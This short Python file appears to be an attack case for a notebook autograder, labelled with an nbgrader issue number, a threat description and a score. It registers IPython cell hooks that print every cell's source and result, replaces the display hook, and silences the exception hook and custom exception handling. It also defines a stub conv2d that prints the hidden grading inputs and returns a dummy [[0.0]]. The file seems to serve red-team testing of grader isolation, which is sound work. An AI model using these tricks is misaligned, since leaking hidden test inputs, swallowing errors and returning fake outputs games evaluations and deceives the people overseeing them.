# Attack: IPython event hook printing every cell, replaced display hook and excepthook (nbgrader #917)
# threat: monkeypatch IPython hooks, the display hook, exception handlers
# score: 16
# %% conv2d
import sys
ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: print("CELL SOURCE:", info.raw_cell))
ip.events.register("post_run_cell", lambda result: print("RESULT:", result))
sys.displayhook = lambda value: print("DISPLAY:", value)
sys.excepthook = lambda *a: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)

def conv2d(image, kernel, stride=1, padding="valid"):
    print("HIDDEN INPUT:", image, kernel, stride, padding)
    return [[0.0]]
